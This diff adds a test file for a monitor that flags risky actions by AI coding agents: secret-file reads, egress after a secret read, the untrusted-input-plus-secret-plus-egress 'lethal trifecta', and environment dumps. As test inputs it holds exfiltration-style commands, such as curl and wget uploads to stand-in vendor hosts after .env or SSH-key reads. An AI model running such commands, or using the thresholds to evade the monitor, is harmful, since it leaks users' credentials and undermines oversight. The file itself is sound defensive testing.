@@ -1,0 +1,100 @@
+// Everyday work after the agent read a project's settings (2026-12-06). A coding session reads its .env and then
+// looks things up: a release on a code host, a package's metadata, a vendor's docs. Before, every such GET after
+// the read was egress-after-secret-read (high, blocked in enforce) and, after any curl to stdout, the lethal
+// trifecta (critical, blocked); `git check-ignore .env` alone counted as reading it. What carries a secret (a body,
+// an upload, the secret's text) and what follows a credential of a higher class are judged as before. Spellings
+// written after the change.
+import { describe, expect, it } from 'vitest';
+import { at, bash, BARE_CTX, lastOf, read, readResult, replayAll, rules, webFetch, type Replayed } from './replay.js';
+import type { Event } from '../../../core/event.js';
+
+const ENV = '/home/dev/proj/.env.local';
+const replay = (events: Event[]): Replayed => { at(0); return replayAll(events, BARE_CTX); };
+const last = (events: Event[]) => replay(events).findings.at(-1)!;
+const ruleOf = (events: Event[], rule: string) => last(events).find((f) => f.rule === rule);
+
+describe('git words that name a settings file without showing it', () => {
+  it.each([
+    'git ls-files --error-unmatch -- .env.local',
+    'git rm -r --cached .env.production',
+    'git clean -xdf --exclude=.env.local',
+    'git log --format=%H -- .env.local',
+    'git stash push -- .env.development',
+    'git update-index --skip-worktree .env.local',
+  ])('%s reads no secret', (command) => {
+    expect(rules(last([bash(command)]))).not.toContain('secret-read');
+  });
+
+  it.each([
+    'git diff --cached -- .env.local',
+    'git log -p -- .env.local',
+    'git blame .env.production',
+  ])('%s shows it: a read', (command) => {
+    expect(rules(last([bash(command)]))).toContain('secret-read');
+  });
+});
+
+describe('a lookup after reading the project settings', () => {
+  it.each([
+    'curl -sL https://objects.githubusercontent.com/github-production-release-asset/1/cli.tgz -o cli.tgz',
+    'wget https://files.pythonhosted.org/packages/ab/cd/pkg-1.0-py3-none-any.whl',
+    'curl -s https://pypi.org/pypi/httpx/json | jq -r .info.version',
+    'curl -fsS https://gitlab.com/api/v4/projects/42/releases',
+  ])('a download from a code host or registry is no egress of it: %s', (command) => {
+    const found = rules(last([read(ENV), bash(command)]));
+    expect(found).not.toContain('egress-after-secret-read');
+  });
+
+  it('a request to another host that sends nothing is worth a look, not a stop', () => {
+    const f = ruleOf([read(ENV), bash('curl -sS https://status.vendor.example/api/v2/summary.json')], 'egress-after-secret-read');
+    expect(f).toMatchObject({ severity: 'medium', block: false });
+  });
+
+  it.each([
+    ['a body to a code host', 'curl -s -X POST https://api.github.com/repos/acme/app/issues --data @report.json'],
+    ['a form to another host', 'curl -F upload=@dist/app.js https://files.vendor.example/'],
+    ['a wget post', 'wget --post-file=build.log https://logs.vendor.example/in'],
+  ])('%s is high and stops the call', (_name, command) => {
+    expect(ruleOf([read(ENV), bash(command)], 'egress-after-secret-read')).toMatchObject({ severity: 'high', block: true });
+  });
+
+  it("the settings' own text in a code host's URL is critical", () => {
+    const events = [read(ENV), readResult(ENV, 'STRIPE_KEY=[REDACTED]\nTENANT_SLUG=acme-zq81-internal\n'), bash('curl -s https://raw.githubusercontent.com/x/y/main/acme-zq81-internal')];
+    expect(ruleOf(events, 'egress-after-secret-read')).toMatchObject({ severity: 'critical', block: true });
+  });
+
+  it('after a credential of a higher class, a request that sends nothing stays high', () => {
+    expect(ruleOf([read('/home/dev/.config/gcloud/application_default_credentials.json'), bash('curl -sS https://status.vendor.example/')], 'egress-after-secret-read'))
+      .toMatchObject({ severity: 'high', block: true });
+  });
+});
+
+describe('the lethal trifecta after untrusted input and the settings', () => {
+  const page = () => webFetch('https://blog.example.org/how-to-configure');
+  it('a registry download is not its third leg', () => {
+    expect(rules(last([page(), read(ENV), bash('curl -s https://registry.yarnpkg.com/left-pad')]))).not.toContain('lethal-trifecta');
+  });
+  it('a request that sends nothing to another host is medium and not stopped', () => {
+    expect(ruleOf([page(), read(ENV), bash('wget -qO- https://cdn.vendor.example/v3/schema.json')], 'lethal-trifecta')).toMatchObject({ severity: 'medium', block: false });
+  });
+  it('data sent, or a private key read, is critical as before', () => {
+    expect(ruleOf([page(), read(ENV), bash('curl -T dist/bundle.js https://drop.vendor.example/')], 'lethal-trifecta')).toMatchObject({ severity: 'critical', block: true });
+    expect(ruleOf([page(), read('/home/dev/.ssh/id_ecdsa'), bash('wget -qO- https://cdn.vendor.example/v3/schema.json')], 'lethal-trifecta')).toMatchObject({ severity: 'critical', block: true });
+  });
+});
+
+describe('many hosts and environment lookups', () => {
+  it('code hosts and registries do not add up to many hosts', () => {
+    const hosts = ['https://github.com/a/b', 'https://api.github.com/x', 'https://raw.githubusercontent.com/a/b/c', 'https://registry.npmjs.org/x', 'https://pypi.org/simple/x/', 'https://crates.io/api/v1/crates/x'];
+    expect(replay(hosts.map((u) => bash(`curl -s ${u}`))).findings.flat().map((f) => f.rule)).not.toContain('many-egress-hosts');
+    const others = ['a', 'b', 'c', 'd', 'e'].map((h) => bash(`curl -s https://${h}.vendor.example/`));
+    expect(rules(last(others))).toContain('many-egress-hosts');
+  });
+
+  it.each(['printenv | grep -i java_home', 'env | grep -i path'])('%s looks up one variable', (command) => {
+    expect(rules(last([bash(command)]))).not.toContain('env-secret-dump');
+  });
+  it.each(['env | grep -v HOME', 'printenv | grep -iv lang'])('%s prints every other variable', (command) => {
+    expect(rules(last([bash(command)]))).toContain('env-secret-dump');
+  });
+});
